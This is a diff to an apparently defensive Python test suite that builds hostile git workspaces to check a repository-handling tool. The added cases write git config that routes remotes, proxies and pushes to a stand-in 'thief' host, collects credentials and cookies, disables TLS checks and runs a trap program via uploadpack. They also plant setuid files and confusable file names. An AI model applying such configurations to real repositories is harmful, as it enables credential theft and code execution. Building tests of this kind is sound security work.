@@ -14,9 +14,13 @@ SECRET = b"canary-5d1f: another tenant's secret"
 
 @dataclass(frozen=True)
 class Trap:
-    """`program` leaves a mark when anybody runs it; `secret` and `vault/` must never be read."""
+    """`program` leaves a mark when anybody runs it; `secret` and `vault/` must never be read, nobody calls at `thief`, and the objects
+    of another session that the mirror holds are published by none."""
 
     folder: Path
+    thief: str = "http://127.0.0.1:1/"
+    foreign_blob: str = "1" * 40
+    foreign_tree: str = "2" * 40
 
     @property
     def mark(self) -> Path:
@@ -100,8 +104,22 @@ def include_path(workspace: Path, trap: Trap) -> None:
 
 @attack
 def url_rewriting_and_proxy(workspace: Path, trap: Trap) -> None:
-    del trap
-    _config(workspace, '[url "http://127.0.0.1:1/"]\n\tinsteadOf = http\n\tpushInsteadOf = http\n[http]\n\tproxy = http://127.0.0.1:1\n')
+    _config(workspace, f'[url "{trap.thief}"]\n\tinsteadOf = http\n\tpushInsteadOf = http\n[http]\n\tproxy = {trap.thief}\n')
+
+
+@attack
+def credentials_that_are_collected(workspace: Path, trap: Trap) -> None:
+    _config(workspace, f"[credential]\n\thelper = store --file={workspace}/.git/collected\n[http]\n\tcookieFile = .git/cookies\n")
+    _config(workspace, f'\tsaveCookies = true\n\textraHeader = X: y\n\tsslVerify = false\n[remote "origin"]\n\turl = {trap.thief}\n')
+    _config(workspace, f'\tproxy = {trap.thief}\n\tpushurl = {trap.thief}\n[branch "main"]\n\tremote = origin\n')
+
+
+@attack
+def a_partial_clone_that_promises(workspace: Path, trap: Trap) -> None:
+    _config(workspace, f'[extensions]\n\tpartialClone = origin\n[remote "origin"]\n\turl = {trap.thief}\n\tpromisor = true\n')
+    _config(workspace, f"\tpartialclonefilter = blob:none\n\tuploadpack = {trap.program}\n\tvcs = {trap.program}\n")
+    for pack in (workspace / ".git/objects/pack").glob("*.pack"):
+        pack.with_suffix(".promisor").touch()
 
 
 @attack
@@ -254,6 +272,43 @@ def sparse_ten_gibibytes(workspace: Path, trap: Trap) -> None:
     for name in ("sparse", "README.md", ".gitignore", ".gitmodules"):
         with (workspace / name).open("wb") as file:
             file.truncate(10 * 1024**3)
+
+
+@attack
+def files_that_are_too_large(workspace: Path, trap: Trap) -> None:
+    del trap
+    for name in ("dense", "src/app.py"):
+        (workspace / name).unlink(missing_ok=True)
+        with (workspace / name).open("wb") as file:
+            file.write(bytes(2 * 1024**2))
+
+
+@attack
+def powers_and_bits(workspace: Path, trap: Trap) -> None:
+    """What a checkout would make into a program of root's."""
+    shutil.copy(trap.program, workspace / "setuid")
+    (workspace / "setuid").chmod(0o6777)
+    (workspace / "README.md").chmod(0o4755)
+
+
+@attack
+def names_that_some_systems_take_for_others(workspace: Path, trap: Trap) -> None:
+    del trap
+    names = ["readme.md", "README.md ", "README.md.", "CON", "aux.c", "C:\\x", "a:b", "\u202etxt.exe", "~"]
+    for name in [*names, "re\u0301sume\u0301", "r\u00e9sum\u00e9"]:
+        (workspace / name).write_text(name)
+    (workspace / "SRC").mkdir(exist_ok=True)
+    (workspace / "SRC/app.py").write_text("another one")
+
+
+@attack
+def directories_in_the_place_of_git_s_own_files(workspace: Path, trap: Trap) -> None:
+    del trap
+    for name in (".gitignore", ".gitattributes", ".gitmodules", ".lfsconfig", ".mailmap"):
+        if (workspace / name).is_file():
+            (workspace / name).unlink()
+        (workspace / name / "inside").mkdir(parents=True, exist_ok=True)
+        (workspace / name / "inside/x").write_text("x")
 
 
 @attack
